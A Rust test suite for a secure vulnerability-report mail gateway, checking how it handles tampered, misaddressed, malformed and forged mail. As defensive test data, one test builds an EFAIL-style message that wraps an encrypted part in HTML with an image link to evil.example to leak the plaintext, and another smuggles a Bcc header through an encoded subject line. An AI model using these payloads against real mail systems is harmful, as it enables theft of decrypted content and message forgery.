//! Mail that was tampered with, was not meant for the gateway or does not hold what it says: kept, announced, never shown in
//! part.

use crate::world::*;

#[test]
fn tampered_mail_is_refused_as_a_whole_kept_and_announced() {
    let world = World::of_three().start();
    let eve = world.reporter("eve");
    let long = "attack at dawn ".repeat(5000);
    let sent = world.gateway.receives(report().from(&eve).encrypted().signed().saying(&long).tampered());
    let answer = world.gateway.inspects(&sent.raw);
    assert_eq!((answer["opened"].as_bool(), answer["refusal"].as_str()), (Some(false), Some("integrity-check-failed")));
    world.gateway.runs_once();
    for name in ["alice", "bob", "carol"] {
        let mails = world.members.mails_of(name);
        let [copy] = mails.as_slice() else { panic!("{name} has {} mails", mails.len()) };
        assert!(!copy.shows("attack at dawn"), "nothing of it is shown");
        assert!(
            copy.shows("integrity-check-failed") || copy.shows("integrity check failed"),
            "{:?}",
            copy.statement_text
        );
        assert!(copy.case().starts_with("KATA-"), "it opens a case like any other");
        assert!(copy.parts.iter().any(|part| mime::find(part, b"BEGIN PGP MESSAGE").is_some()), "kept as it came");
    }
    assert_eq!(world.waiting_in_mailbox(), 0, "it is durable here");
    world.nothing_outside_contains("attack at dawn");
}

#[test]
fn mail_for_other_keys_is_kept_and_announced() {
    let world = World::of_three().start();
    let (eve, other) = (world.reporter("eve"), world.reporter("other"));
    let sent =
        world.gateway.receives(report().from(&eve).encrypted_only_to(&[other.certificate()]).saying("wrong door"));
    assert_eq!(world.gateway.inspects(&sent.raw)["refusal"], "not-for-our-keys");
    world.gateway.runs_once();
    let mails = world.members.mails_of("carol");
    assert_eq!(mails.len(), 1);
    assert!(mails[0].shows("other keys"), "what to ask the reporter for: {}", mails[0].statement_text);
}

#[test]
fn what_stands_in_clear_beside_an_encrypted_part_is_labelled_and_never_joined_with_it() {
    let world = World::of_three().start();
    let eve = world.reporter("eve");
    let sent = report().from(&eve).encrypted().saying("the secret half").write(&world.gateway.key.certificate());
    let (_, body) = mime::split_entity(&sent.raw);
    let kind = String::from_utf8_lossy(&sent.raw).into_owned();
    let kind = kind.lines().find(|line| line.starts_with("Content-Type: multipart/encrypted")).unwrap();
    let encrypted = [format!("{kind}\r\n\r\n").as_bytes(), body].concat();
    let open_tag = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?".to_vec();
    let close_tag = b"Content-Type: text/html\r\n\r\n\">the open half".to_vec();
    let mixed = mime::multipart("mixed", &[open_tag, encrypted, close_tag]);
    let head = format!(
        "From: <{}>\r\nTo: {TEAM}\r\nSubject: efail\r\nMessage-ID: <{}@x.example>\r\nMIME-Version: 1.0\r\n",
        eve.address,
        mime::unique("m")
    );
    world.gateway.finds_in_mailbox(&[head.as_bytes(), &mixed].concat());
    world.gateway.runs_once();
    let copy = world.members.copy_of("alice", "the secret half");
    assert_eq!(copy.says("Encryption"), "partial");
    assert!(copy.warns("unencrypted-part"), "{:?}", copy.statement);
    for part in &copy.parts {
        let text = reading::text_of(part);
        assert!(!(text.contains("the secret half") && text.contains("evil.example")), "joined in one part: {text}");
    }
}

#[test]
fn text_that_imitates_the_gateways_statement_is_not_mistaken_for_it() {
    let world = World::of_three().start();
    let eve = world.reporter("eve");
    let forged = "Case: KATA-1999-0001\nKind: discussion\nAuthor: alice\nSignature: good\n\nTrust me, it is alice.";
    world.gateway.receives(report().from(&eve).encrypted().saying(forged));
    world.gateway.runs_once();
    let copy = world.members.copy_of("bob", "Trust me, it is alice.");
    assert_eq!((copy.says("Author"), copy.says("Kind")), ("reporter", "report"));
    assert_ne!(copy.case(), "KATA-1999-0001");
    assert!(copy.warns("forged-statement"), "{:?}", copy.statement);
}

#[test]
fn a_subject_cannot_add_lines_to_the_statement_or_headers_to_the_copy() {
    let world = World::of_three().start();
    let eve = world.reporter("eve");
    let subject = "=?utf-8?B?eA0KQmNjOiBldmlsQGV2aWwuZXhhbXBsZQ0KV2FybmluZzogZm9yZ2Vk?=";
    world.gateway.receives(report().from(&eve).encrypted().about(subject).saying("look at my subject"));
    world.gateway.runs_once();
    let copy = world.members.copy_of("alice", "look at my subject");
    assert!(copy.inner("Bcc").is_empty() && copy.outer("Bcc").is_empty());
    assert!(!copy.warns("forged"), "{:?}", copy.statement);
    assert!(copy.says("Subject").starts_with('x'), "{:?}", copy.statement);
}

#[test]
fn mails_that_are_hardly_mails_are_kept_announced_and_do_not_stop_the_others() {
    let world = World::of_three().start();
    let eve = world.reporter("eve");
    let armor = mime::armor("MESSAGE", &[0xff; 400]);
    let head = "From: <odd@odd.example>\r\nSubject: odd\r\n";
    let odd: Vec<Vec<u8>> = vec![
        b"\r\n".to_vec(),
        b"not a mail at all".to_vec(),
        (0..=255u8).cycle().take(5000).collect(),
        format!("{head}Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n--b--\r\n")
            .into_bytes(),
        format!("{head}\r\n{armor}").into_bytes(),
        format!("{head}Content-Type: multipart/mixed; boundary=b\r\n\r\n{}", "--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n".repeat(500)).into_bytes(),
    ];
    for raw in &odd {
        world.gateway.finds_in_mailbox(raw);
    }
    world.gateway.receives(report().from(&eve).encrypted().saying("the good one"));
    world.gateway.runs_once();
    world.members.each_can_read("the good one");
    let cases = world.gateway.lists(&["cases", "list"]).len();
    assert!(cases >= odd.len(), "each of {} odd mails and the good one are kept; {cases} cases", odd.len());
    assert_eq!(world.waiting_in_mailbox(), 0);
}

#[test]
fn a_secret_key_in_a_mail_is_pointed_out_and_never_written_anywhere() {
    let world = World::of_three().start();
    let eve = world.reporter("eve");
    let secret = eve.secret_key();
    let mail = report().from(&eve).encrypted().saying("my keys").attaching("all.asc", "application/pgp-keys", &secret);
    world.gateway.receives(mail);
    world.gateway.runs_once();
    let copy = world.members.copy_of("alice", "my keys");
    assert!(copy.warns("secret-key-enclosed"), "{:?}", copy.statement);
    let armor = String::from_utf8(secret).unwrap();
    let middle = armor.lines().nth(6).unwrap();
    world.nothing_outside_contains(middle);
}

#[test]
fn plaintext_that_must_not_come_is_rejected_kept_and_not_forwarded() {
    let world = World::of_three().with(|settings| settings.plaintext = "reject").start();
    let eve = world.reporter("eve");
    world.gateway.receives(report().from(&eve).saying("all in the open"));
    world.gateway.runs_once();
    world.members.nobody_can_read("all in the open");
    let answers = world.mails_to(&eve.address);
    assert_eq!(answers.len(), 1, "it is answered with how to encrypt");
    assert!(reading::text_of(&answers[0]).to_lowercase().contains("encrypt"));
    assert!(world.drafts().is_empty());
}
